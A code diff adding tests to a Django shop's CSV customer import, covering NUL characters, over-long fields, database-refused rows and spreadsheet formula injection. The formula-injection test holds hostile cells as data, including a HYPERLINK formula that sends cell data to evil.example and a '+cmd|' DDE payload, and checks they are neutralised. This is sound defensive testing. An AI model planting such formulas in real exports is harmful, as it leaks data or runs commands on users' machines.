@@ -119,3 +119,103 @@ def test_a_clean_file_exits_0_and_a_missing_file_2(tmp_path, capsys):
     status, _out, err = run(capsys, "--customers", tmp_path / "missing.csv")
     assert status == 2
     assert "no such file" in err
+
+
+# --- hostile files (issue 17, point 11) -----------------------------------------------------------
+
+
+def test_a_nul_character_refuses_its_row_by_line_and_keeps_the_good_rows(tmp_path, capsys):
+    customers = write(
+        tmp_path / "customers.csv",
+        [
+            ["external_id", "email", "first_name", "last_name"],
+            ["1", "alice@example.com", "Alice", "Doe"],
+            ["2", "bob@example.com", "Bob", "R\x00oe"],
+            ["3", "chloe@example.com", "Chloé", "Durand"],
+        ],
+    )
+
+    status, out, _err = run(capsys, "--customers", customers)
+
+    assert status == 1
+    assert "customers: 2 created, 0 updated, 1 rejected" in out
+    assert "customers line 3 (id 2): last_name: Null characters are not allowed." in out
+    assert set(Customer.objects.values_list("external_id", flat=True)) == {"1", "3"}
+
+
+def test_a_field_longer_than_the_csv_reader_takes_refuses_its_line_only(tmp_path, capsys):
+    customers = write(
+        tmp_path / "customers.csv",
+        [
+            ["external_id", "email", "first_name"],
+            ["1", "alice@example.com", "Alice"],
+            ["2", "bob@example.com", "B" * 140_000],
+            ["3", "chloe@example.com", "Chloé"],
+        ],
+    )
+
+    status, out, _err = run(capsys, "--customers", customers)
+
+    assert status == 1
+    assert "customers: 2 created, 0 updated, 1 rejected" in out
+    assert (
+        "customers line 3 (id ?): line: This line cannot be read: a field is longer than "
+        "131,072 characters." in out
+    )
+    assert set(Customer.objects.values_list("external_id", flat=True)) == {"1", "3"}
+
+
+def test_the_rejected_file_cannot_run_a_formula_in_a_spreadsheet(tmp_path, capsys):
+    customers = write(
+        tmp_path / "customers.csv",
+        [
+            ["external_id", "email", "@SUM(A1)"],
+            ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "nope", "x"],
+            ["+cmd|' /C calc'!A0", "nope", ""],
+            ["-2+3", "nope", ""],
+            ["\t=1+1", "nope", ""],
+            ["\r=1+1", "nope", ""],
+        ],
+    )
+    rejected = tmp_path / "rejected.csv"
+
+    run(capsys, "--customers", customers, "--rejected", rejected)
+
+    kept = list(csv.reader(rejected.open(encoding="utf-8", newline="")))
+    cells = [cell for row in kept[1:] for cell in row]
+    assert cells, kept
+    dangerous = [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert dangerous == []
+    ids = {row[2] for row in kept[1:]}
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in ids
+    assert "'-2+3" in ids
+    assert "'@SUM(A1)" in {row[3] for row in kept[1:]}
+
+
+def test_a_row_the_database_refuses_loses_only_itself_not_its_batch():
+    """A row past its schema that the database still refuses (here a name longer than its
+    column, built without validation): PostgreSQL and MariaDB refuse it, SQLite stores it."""
+    from django.db import connection
+
+    from comptoir.shop.csv_import import KINDS, _upsert
+    from comptoir.shop.sync import CustomerIn
+
+    customers = next(kind for kind in KINDS if kind.name == "customers")
+    rows = [
+        (0, CustomerIn(external_id="1", email="alice@example.com")),
+        (1, CustomerIn.model_construct(
+            external_id="2", email="bob@example.com", first_name="B" * 400, last_name="",
+            is_guest=False, language="en", created_at=None,
+        )),
+        (2, CustomerIn(external_id="3", email="chloe@example.com")),
+    ]  # fmt: skip
+
+    report = _upsert(customers, rows)
+
+    stored = set(Customer.objects.values_list("external_id", flat=True))
+    if connection.vendor == "sqlite":
+        assert stored == {"1", "2", "3"}
+    else:
+        assert stored == {"1", "3"}
+        assert [(r.index, r.external_id) for r in report.rejected] == [(1, "2")]
+        assert "The database refused this row" in report.rejected[0].errors[0].message
